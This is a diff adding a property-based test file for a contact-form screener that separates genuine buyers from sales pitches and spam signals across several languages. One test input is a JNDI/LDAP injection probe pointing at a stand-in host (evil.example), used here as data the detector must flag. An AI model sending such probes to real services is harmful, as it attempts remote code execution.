@@ -1,0 +1,113 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import type { Inquiry, ScreeningFacts } from './inquiry.ts'
+import { phrases } from './languages.ts'
+import { defaultRules } from './rules.ts'
+import { screen } from './screen.ts'
+
+const kim: Inquiry = {
+  formKind: 'contact',
+  name: 'Kim Park',
+  email: 'kim@northwind.example',
+  company: 'Northwind',
+  message: 'Could you call me about your prices? We are 40 people.',
+}
+const screened = (over: Partial<Inquiry> = {}, facts: ScreeningFacts = {}) =>
+  screen({ ...kim, ...over }, { phrases, rules: defaultRules, facts })
+const codes = (over: Partial<Inquiry> = {}, facts: ScreeningFacts = {}) =>
+  screened(over, facts).reasons.map(({ code }) => code)
+const says = (message: string) => screened({ message })
+
+describe('a buyer passes', () => {
+  test.each([
+    'price?',
+    'we are an SEO agency and need a CRM for 12 people, what does it cost?',
+    'Licensed online casino here. Could we get a demo of the player limits?',
+    'I came across your website and have about 5,000 € for it. Let’s talk.',
+    'was kostet das und wann liefern Sie',
+    'おいくらですか',
+    'कीमत क्या है',
+    '',
+  ])('%s', (message) => expect(says(message)).toMatchObject({ verdict: 'pass', class: 'buyer' }))
+  test('whatever a look-up failed to find', () =>
+    expect(screened({}, { address: {} })).toMatchObject({ verdict: 'pass' }))
+  test('at an address with a slip, though nothing reaches it', () =>
+    expect(screened({ message: '' }, { address: { undeliverable: true, meant: 'gmail.com' } }).verdict).toBe(
+      'pass',
+    ))
+})
+
+describe('a pitch is held', () => {
+  test.each([
+    'I noticed your website has few visitors. We help firms like yours rank on the first page of Google, guaranteed.',
+    'Wir helfen Unternehmen wie Ihrem, neue Kunden zu gewinnen. Hätten Sie nächste Woche 15 Minuten?',
+    'Nous proposons la création de sites modernes à partir de 490 €. Souhaitez-vous un devis gratuit ?',
+    '弊社ではSEO対策により集客を3倍にした実績がございます。無料診断をご提案させていただけないでしょうか。',
+  ])('%s', (message) => expect(says(message)).toMatchObject({ verdict: 'hold', class: 'pitch' }))
+  test('and the reason quotes what it goes by', () => {
+    const [first] = says('We offer link building, and guarantee results within 30 days. Interested?').reasons
+    expect(first?.text).toMatch(/speaks of its own services \(“we offer”\)/)
+  })
+})
+
+describe('each signal is noticed, and no other instead', () => {
+  test.each<[string, Partial<Inquiry>, ScreeningFacts]>([
+    ['honeypot', {}, { honeypot: true }],
+    ['filled_too_fast', {}, { filledInMs: 400 }],
+    ['no_proof_of_work', {}, { proof: 'absent' }],
+    ['replayed_proof_of_work', {}, { proof: 'replayed' }],
+    ['disposable_address', {}, { address: { disposable: true } }],
+    ['undeliverable_address', {}, { address: { undeliverable: true } }],
+    ['mistyped_address', {}, { address: { meant: 'gmail.com' } }],
+    ['same_text', {}, { sameText: 4 }],
+    ['network_burst', {}, { sameNetwork: 30 }],
+    ['trusted', {}, { trusted: 'northwind.example' }],
+    ['made_up_address', { email: 'asdf@asdf.com' }, {}],
+    ['nobodys_name', { name: 'Mickey Mouse' }, {}],
+    ['contradiction', { name: 'RobertPah', company: 'google' }, {}],
+    ['gibberish', { message: 'dfgdfg xkqzvwt' }, {}],
+    ['gibberish_name', { name: 'GnNAvXdqKbOTr' }, {}],
+    ['probe', { message: '${jndi:ldap://evil.example/a}' }, {}],
+    ['link_markup', { message: '[url=https://a.example]a[/url]' }, {}],
+    ['hidden_link', { message: 'look what I found here for you all http://bit.ly/2x' }, {}],
+    ['cheap_link', { message: 'look what I found here for you all http://a.top/2x' }, {}],
+    ['bare_link', { message: 'http://a.example/x' }, {}],
+    ['link_in_name', { name: 'http://a.example' }, {}],
+    ['lure', { message: 'You have won a prize' }, {}],
+  ])('%s', (code, inquiry, facts) => {
+    expect(codes(inquiry, facts)).toContain(code)
+    expect(codes()).not.toContain(code)
+  })
+})
+
+describe('names and words that are only rare to us are no gibberish', () => {
+  test.each([
+    'Nguyễn Ngọc Bích',
+    'Krzysztof Szczęsny',
+    'Ng',
+    'Bo',
+    '王',
+    'Þórður Hjálmarsson',
+    'Xhevdet Qosja',
+  ])('%s', (name) => expect(screened({ name, message: 'ok' }).verdict).toBe('pass'))
+  test.each(['GDPR HIPAA ISO27001', 'Rindfleischetikettierung', 'strč prst skrz krk', 'hmm', 'LGTM thx'])(
+    '%s',
+    (message) => expect(codes({ message })).not.toContain('gibberish'),
+  )
+})
+
+test('whom we learned to trust passes, whatever else is noticed', () => {
+  expect(screened({ message: 'dfgdfg' }, { trusted: 'kim', honeypot: true }).verdict).toBe('pass')
+})
+
+test('any text is screened, the same way each time, and a held one says why', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'grapheme', maxLength: 400 }), fc.string(), (message, name) => {
+      const once = screened({ message, name })
+      expect(screened({ message, name })).toEqual(once)
+      const why = once.reasons[0]?.text ?? ''
+      expect(once.verdict === 'pass' || why.length > 5).toBe(true)
+    }),
+    { numRuns: 200 },
+  )
+})
